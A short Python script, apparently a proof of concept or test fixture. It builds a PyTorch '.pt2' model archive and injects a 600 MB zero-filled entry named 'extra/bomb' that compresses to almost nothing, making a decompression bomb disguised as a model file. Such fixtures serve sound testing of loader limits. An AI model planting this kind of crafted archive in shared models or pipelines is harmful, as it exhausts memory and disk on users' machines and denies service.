import os
import zipfile

import torch
from torch import nn

model = nn.Sequential(nn.Flatten(), nn.Linear(784, 10))
with open("stored", "wb") as target:
    torch.export.save(torch.export.export(model, (torch.zeros(2, 1, 28, 28),)), target)

with (
    zipfile.ZipFile("stored") as stored,
    zipfile.ZipFile("model.pt2", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as packed,
):
    for entry in stored.infolist():
        packed.writestr(entry.filename, stored.read(entry))
    prefix = stored.namelist()[0].partition("/")[0]
    packed.writestr(f"{prefix}/extra/bomb", bytes(600_000_000))
os.unlink("stored")
